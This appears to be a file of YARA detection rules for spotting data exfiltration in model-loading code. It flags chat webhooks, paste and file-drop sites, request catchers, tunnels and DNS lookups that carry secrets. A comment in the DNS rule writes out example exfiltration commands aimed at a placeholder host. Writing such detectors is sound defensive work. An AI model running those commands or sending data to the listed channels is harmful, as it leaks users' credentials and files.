// Exfiltration endpoints: chat webhooks, paste and anonymous file-drop sites,
// request catchers, out-of-band (DNS/HTTP) interaction services and tunnels.
// Model-loading code has no reason to contact any of them.

rule LG_YARA_EXFIL_WEBHOOK
{
    meta:
        id = "LG-YARA-EXFIL-001"
        cwe = "CWE-200"
        severity = "high"
        description = "Chat webhook or bot API endpoint (common exfiltration channel)"
        family = "exfiltration"
    strings:
        $discord = /discord(app)?\.com\/api\/(v[0-9]{1,2}\/)?webhooks\/[0-9]+/ ascii nocase
        $slack = /hooks\.slack\.com\/(services|workflows|triggers)\/[A-Z0-9]+/ ascii
        $telegram = /api\.telegram\.org\/bot[0-9]*/ ascii nocase
        $teams = /\.webhook\.office\.com\/webhookb2\// ascii
    condition:
        any of them
}

rule LG_YARA_EXFIL_PASTE_CATCHER
{
    meta:
        id = "LG-YARA-EXFIL-002"
        cwe = "CWE-200"
        severity = "high"
        description = "Paste site, file drop, request catcher, out-of-band interaction or tunnel endpoint"
        family = "exfiltration"
    strings:
        $paste1 = /pastebin\.com\/(raw|api)/ ascii nocase
        $paste2 = /\b(paste\.ee|hastebin\.com|ghostbin\.\w+|rentry\.co|dpaste\.(com|org)|paste\.rs|termbin\.com|ix\.io|sprunge\.us)\b/ ascii nocase
        $drop = /\b(0x0\.st|bashupload\.com|file\.io|oshi\.at|temp\.sh|anonfiles\.com|gofile\.io\/(uploadFile|api))\b/ ascii nocase
        $catch1 = /\bwebhook\.site\// ascii nocase
        $catch2 = /\b[\w-]+\.(requestbin\.(com|net)|pipedream\.net|m\.pipedream\.net|oast\.(fun|me|pro|live|site|online)|oastify\.com|interact\.sh|interactsh\.com|burpcollaborator\.net|canarytokens\.com|requestcatcher\.com|beeceptor\.com|dnslog\.cn|ceye\.io|dnslog\.link)\b/ ascii nocase
        $catch3 = /\b(requestbin\.(com|net)|hookb\.in|requestcatcher\.com|beeceptor\.com)\/[\w-]/ ascii nocase
        $tunnel = /\b[\w-]+\.(ngrok\.io|ngrok\.app|ngrok-free\.app|ngrok-free\.dev|trycloudflare\.com|serveo\.net|serveousercontent\.com|localhost\.run|lhr\.life|loca\.lt|bore\.pub)\b/ ascii nocase
        $transfer = /\btransfer\.sh\/[\w.-]+/ ascii nocase
    condition:
        any of them
}

rule LG_YARA_EXFIL_DNS
{
    meta:
        id = "LG-YARA-EXFIL-003"
        cwe = "CWE-200"
        severity = "high"
        description = "DNS lookup whose name carries command output or a secret (DNS exfiltration)"
        family = "exfiltration"
    strings:
        // nslookup $(whoami).x.invalid, dig `cat f | base64`.x.invalid (not ping -c 1 $(hostname))
        $cmd = /\b(nslookup|dig|host|ping\s+-c\s*[0-9]+)\s+[^\n|;]{0,40}(\$\(|`)\s*(whoami|hostname|id|cat|env|printenv|uname|base64|xxd)\b[^)`\n]{0,80}[)`]\.[\w-]+\./ ascii
        $var = /\b(nslookup|dig|host)\s+[^\n|;]{0,40}\$\{?(HF_TOKEN|AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN|USER|HOSTNAME)\}?\./ ascii
    condition:
        any of them
}
